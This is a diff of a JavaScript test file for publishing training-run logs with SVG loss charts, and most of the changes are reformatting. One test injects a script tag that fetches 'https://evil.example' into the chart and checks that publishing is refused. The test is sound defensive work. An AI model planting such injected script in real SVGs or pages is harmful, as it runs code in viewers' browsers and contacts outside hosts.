@@ -16,10 +16,21 @@ import { CHART_FILE, publishRun } from '../../../src/publish/training-log.js';
 const base = mkdtempSync(join(tmpdir(), 'runlog-publish-chart-'));
 afterAll(() => rmSync(base, { recursive: true, force: true }));
 
-const doc = new RunLogDoc('# t\n\n## Status\n- 2026-03-22 10:00 UTC — running, step 10, train_loss 1.5 — ok\n\n## Results\n- final step: 10\n- chart: ![loss and throughput](plots/2026-03-22_t.svg)\n', 'run_logs/g/2026-03-22_t.md');
+const doc = new RunLogDoc(
+  '# t\n\n## Status\n- 2026-03-22 10:00 UTC — running, step 10, train_loss 1.5 — ok\n\n## Results\n- final step: 10\n- chart: ![loss and throughput](plots/2026-03-22_t.svg)\n',
+  'run_logs/g/2026-03-22_t.md',
+);
 const chart = renderRunChart({
   title: 'g/2026-03-22_t on host gpu-node-17',
-  train: { label: 'train loss', segments: [[[10, 1.5], [20, 1.2]]] },
+  train: {
+    label: 'train loss',
+    segments: [
+      [
+        [10, 1.5],
+        [20, 1.2],
+      ],
+    ],
+  },
   val: { label: 'val loss', segments: [] },
   throughput: { label: 'throughput', unit: 'it/s', segments: [] },
   marks: [{ kind: 'checkpoint', step: 20, label: 'final checkpoint /scratch/alice/ckpt/step-20' }],
@@ -45,7 +56,16 @@ describe('publish carries the chart', () => {
   it('refuses a chart runlog would not have drawn, writing nothing', async () => {
     const out = join(base, 'refused');
     const hostile = chart.replace('<title>', '<script>fetch("https://evil.example")</script><title>');
-    await expect(publishRun({ runId: 'g/2026-03-22_t', doc, checkpoint: null, out, sanitizer: sanitizerFor({}, []), chart: hostile })).rejects.toMatchObject({ code: 'PUBLISH_CHART_UNSAFE' });
+    await expect(
+      publishRun({
+        runId: 'g/2026-03-22_t',
+        doc,
+        checkpoint: null,
+        out,
+        sanitizer: sanitizerFor({}, []),
+        chart: hostile,
+      }),
+    ).rejects.toMatchObject({ code: 'PUBLISH_CHART_UNSAFE' });
     expect(existsSync(out)).toBe(false);
   });
 });
